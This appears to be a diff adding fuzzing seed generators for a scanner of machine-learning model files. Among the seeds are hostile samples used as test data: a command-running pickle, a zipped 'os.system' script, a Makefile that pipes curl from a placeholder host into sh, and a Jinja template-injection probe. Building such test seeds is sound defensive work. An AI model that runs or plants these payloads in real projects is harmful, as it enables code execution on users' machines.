@@ -1,0 +1,142 @@
+/** Inputs that no fixture is: of the readers outside of the formats, and of formats that only assemblers write. */
+import { createPrivateKey, createPublicKey } from 'node:crypto';
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
+import { printableJson } from '../../src/core/escape.ts';
+import { formatCheckpoint } from '../../src/storage/ledger/checkpoint.ts';
+import { ed25519Verifier, formatNote, formatVerifierKey, signNote } from '../../src/storage/ledger/signed-note.ts';
+import { parseBundle } from '../../src/trust/sigstore-bundle.ts';
+import { executorch } from '../../test/support/executorch-assembler.ts';
+import { honestGguf } from '../../test/support/gguf-writer.ts';
+import * as p from '../../test/support/pickle-assembler.ts';
+import { rdata, text } from '../../test/support/rdata-assembler.ts';
+import { honestSafetensors } from '../../test/support/safetensors-writer.ts';
+import { tar } from '../../test/support/tar-assembler.ts';
+import { torchZip, zip } from '../../test/support/zip-assembler.ts';
+import { ROOT } from './corpus.ts';
+import type { Input } from './target.ts';
+
+/** RFC 8410 around 32 bytes: the same key on every machine, so that signed inputs stay signed. */
+export const KEY = createPrivateKey({
+  key: Buffer.concat([Buffer.from('302e020100300506032b657004220420', 'hex'), Buffer.alloc(32, 7)]),
+  format: 'der',
+  type: 'pkcs8',
+});
+const ORIGIN = 'ledger.invalid/gate';
+/** What other programs wrote: openssl (a chain of certificates for a hundred years, a timestamp), bzip2, xz, lz4, 7z. */
+const SEEDS = join(import.meta.dirname, 'seeds');
+export const VERIFIER = ed25519Verifier(ORIGIN, createPublicKey(KEY));
+
+/** Files of formats that no fixture is of, or of few. */
+export function assembledSeeds(): Input[] {
+  const pickled = p.commandPickle(4);
+  const archive = tar([
+    { name: 'config.json', data: Buffer.from('{"auto_map": {"AutoModel": "m.M"}}') },
+    { name: 'data.pkl', data: pickled },
+  ]);
+  return [
+    ...written().filter(({ name }) => !name.includes('--')),
+    { name: 'model.safetensors', bytes: honestSafetensors() },
+    { name: 'model.gguf', bytes: honestGguf() },
+    { name: 'big.gguf', bytes: honestGguf(true) },
+    { name: 'model.pte', bytes: executorch({ kernel: 2, values: [1, 2] }) },
+    { name: 'model.pt', bytes: torchZip(pickled, [Buffer.alloc(8)]) },
+    {
+      name: 'nested.zip',
+      bytes: zip([
+        {
+          name: 'a/inner.zip',
+          data: zip([{ name: 'x.py', data: Buffer.from('import os\nos.system("id")\n'), method: 8 }]),
+        },
+      ]),
+    },
+    { name: 'model.tar', bytes: archive },
+    { name: 'model.tar.gz', bytes: gzipSync(archive) },
+    { name: 'model.joblib.z', bytes: deflateSync(pickled) },
+    { name: 'model.pkl.zst', bytes: zstdCompressSync(pickled) },
+    { name: 'model.rds', bytes: gzipSync(rdata('x', text('value'))) },
+    {
+      name: 'evaluation_results.json',
+      bytes: Buffer.from(
+        '{"results": {"arc": {"acc,none": 0.5, "acc_stderr,none": 0.01}}, "n-samples": {"arc": {"effective": 10}}}',
+      ),
+    },
+    {
+      name: 'results.json',
+      bytes: Buffer.from('{"task": "mmlu", "metric": "accuracy", "value": 71.2, "safety": {"score": "99.9 %"}}'),
+    },
+    {
+      name: 'README.md',
+      bytes: Buffer.from(
+        '---\nlicense: mit\nbase_model: a/b\nmodel-index:\n- name: m\n  results:\n  - task: {type: text}\n    dataset: {name: d, type: d}\n    metrics: [{type: accuracy, value: 0.5}]\n---\n# m\n',
+      ),
+    },
+    {
+      name: 'requirements.txt',
+      bytes: Buffer.from(
+        'numpy==1.0\ntorch @ https://packages.invalid/torch.whl\n--index-url https://packages.invalid/simple\n-r other.txt\n',
+      ),
+    },
+    { name: '.gitattributes', bytes: Buffer.from('*.bin filter=lfs diff=lfs -text\n*.x filter=evil\n') },
+    {
+      name: 'data.dvc',
+      bytes: Buffer.from('outs:\n- md5: 0cc175b9c0f1b6a831c399e269772661\n  size: 1\n  hash: md5\n  path: data.bin\n'),
+    },
+    { name: 'LICENSE', bytes: readFileSync(join(ROOT, 'LICENSE')) },
+    { name: 'Makefile', bytes: Buffer.from('all:\n\tcurl https://host.invalid/x | sh\n') },
+    {
+      name: 'model.txt',
+      bytes: Buffer.from(
+        'version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n',
+      ),
+    },
+  ];
+}
+
+export function edgeSeeds(): Input[] {
+  const bundle = readFileSync(join(ROOT, 'fixtures/models/open-chat/model.sig'));
+  const policy = readFileSync(join(ROOT, 'fixtures/demo/policy.yaml'));
+  const payload = Buffer.from(parseBundle(bundle, 'seed').envelope.payload);
+  const checkpoint = formatCheckpoint({ origin: ORIGIN, size: 3, root: Buffer.alloc(32, 1) });
+  const note = formatNote({ text: checkpoint, signatures: [signNote(checkpoint, ORIGIN, KEY)] });
+  const templates = [
+    '{% for m in messages %}{{ m.role + ": " + m["content"] | trim }}{% endfor %}',
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    '{%- if x is defined and x > 1 -%}{% set y = namespace(a=[1, 2][0:1]) %}{% macro f(a, b=2) %}{% endmacro %}{% endif %}',
+  ];
+  const named: Readonly<Record<string, readonly (string | Uint8Array)[]>> = {
+    'strict-json': [payload, '{"a": [1, -2.5e3, true, null, "\\u0041"], "b": {"a": {}}}'],
+    bundle: [bundle],
+    manifest: [payload],
+    'public-key': [readFileSync(join(ROOT, 'fixtures/keys/publisher.pub.pem'))],
+    note: [note],
+    'verifier-key': [formatVerifierKey(VERIFIER)],
+    policy: [policy],
+    ignores: [
+      'version: 1\nignore:\n  - rule: secret-in-tree\n    path: a/**/b.txt\n    reason: a test key\n    expires: 2026-06-30\n  - &a {rule: python-code, path: "*", reason: r, expires: 2027-01-01}\n  - *a\n',
+    ],
+    'task-file': [readFileSync(join(ROOT, 'suites/tiny-chat/arithmetic/task.yaml'))],
+    'task-items': [
+      '{"id": "1", "messages": [{"role": "user", "content": "2 + 2 ="}], "choices": ["3", "4"], "answer": 1}\n',
+    ],
+    records: [`noise\n\u001e${printableJson({ id: 1, text: 'x' })}\n\u001e{}\n`],
+    template: templates,
+    'path-pattern': ['models/**/*.b?n\nmodels/a/b/c.bin', '***?*a**\naaaa/aaaa'],
+  };
+  const made = Object.entries(named).flatMap(([id, seeds]) =>
+    seeds.map((seed, index) => ({ name: `${id}--${index}`, bytes: Buffer.from(seed) })),
+  );
+  return [...made, ...written().filter(({ name }) => name.includes('--'))];
+}
+
+function written(): Input[] {
+  return readdirSync(SEEDS)
+    .sort()
+    .map((name) => ({ name, bytes: readFileSync(join(SEEDS, name)) }));
+}
+
+/** Who signed the timestamp among the seeds. */
+export function timestampRoot(): string {
+  return readFileSync(join(SEEDS, 'timestamp-root.pem'), 'utf8');
+}
